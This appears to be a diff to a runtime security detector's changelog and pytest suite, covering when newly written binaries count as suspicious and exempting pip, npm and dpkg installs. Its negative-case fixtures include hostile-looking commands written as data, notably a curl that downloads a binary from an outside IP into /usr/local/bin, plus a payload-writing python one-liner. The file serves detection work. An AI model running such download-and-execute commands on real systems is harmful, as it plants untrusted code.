@@ -7,6 +7,13 @@
 - A web server running a CGI or hook script (``#!/bin/sh`` run directly, so the kernel makes the
   argv ``/bin/sh /srv/cgi-bin/x.sh``) or ``sh -ec 'cmd'`` was a SuspiciousShellCreated; only a
   shell that reads its commands from standard input is an interactive shell.
+- An application rotating its own logs under /var/log/<app>/ (RotatingFileHandler renames,
+  a cron job gzipping or expiring rotated backups) was DefenseEvasion SensitiveFileModified;
+  removing or moving a live log, and touching the system's own logs, still are.
+- A native program installed by ``python3 -m pip`` (a wheel's data/bin) and run was a
+  NewBinaryExecuted: only ``pip`` by name counted as an installer. Installers are now judged
+  like NewLibraryLoaded does (name, argv[0], the script an interpreter runs, ``-m pip``,
+  ancestry); anything else that writes a binary that is then run still is.
 - A package's maintainer script creating its system user (``useradd --system`` under dpkg or
   apt) is not Persistence:Runtime/SuspiciousCommand, nor are its writes to the account files a
   SensitiveFileModified; the same commands outside a package manager are.
@@ -176,3 +183,48 @@ def test_an_application_rotating_its_own_logs_is_not_log_tampering(change: Event
 def test_log_removal_and_system_log_rotation_still_fire(change: Event) -> None:
     (d,) = run([change], LOG_FILE)
     assert d.rule_id == "RTG-0127"
+
+
+NEW = "Execution:Runtime/NewBinaryExecuted"
+
+
+@pytest.mark.parametrize(
+    ("writer", "argv", "lineage"),
+    [
+        ("python3.11", ["/usr/bin/python3", "-m", "pip", "install", "--no-index", "rtgdemo"], []),
+        ("pip", ["/usr/bin/python3", "/usr/bin/pip", "install", "rtgdemo"], []),
+        ("node", ["node", "/usr/bin/npm", "install", "./rtg-demo-1.0.0.tgz"], []),
+        ("cp", ["cp", "build/tool", "/usr/local/bin/tool"], ["postinst", "dpkg"]),
+        ("ld", ["ld", "-o", "/usr/local/bin/ext"], ["gcc", "pip"]),
+    ],
+)
+def test_binary_installed_by_an_installer_then_run_is_not_new(
+    writer: str, argv: list[str], lineage: list[str]
+) -> None:
+    write = file_event(
+        "/usr/local/bin/rtgdemo-native",
+        name=writer,
+        argv=argv,
+        lineage=[ancestor(n, pid=800 + i) for i, n in enumerate(lineage)],
+    )
+    run_it = exec_event(
+        "rtgdemo-native", exe_path="/usr/local/bin/rtgdemo-native", exe_written_after_start=True
+    )
+    assert not run([write, run_it], NEW)
+
+
+@pytest.mark.parametrize(
+    ("writer", "argv"),
+    [
+        ("python3.11", ["/usr/bin/python3", "-c", "open('/usr/local/bin/x','wb').write(payload)"]),
+        ("python3.11", ["/usr/bin/python3", "/tmp/pip-helper.py"]),
+        ("node", ["node", "/app/server.js"]),
+        ("cc", ["cc", "-o", "/usr/local/bin/x", "exploit.c"]),
+        ("curl", ["curl", "-o", "/usr/local/bin/x", "http://198.51.100.7/x"]),
+    ],
+)
+def test_binary_written_by_anything_else_then_run_is_still_new(writer: str, argv: list[str]) -> None:
+    write = file_event("/usr/local/bin/x", name=writer, argv=argv)
+    run_it = exec_event("x", exe_path="/usr/local/bin/x", exe_written_after_start=True)
+    (d,) = run([write, run_it], NEW)
+    assert d.context["modifyingProcess"] == f"/usr/bin/{writer}"
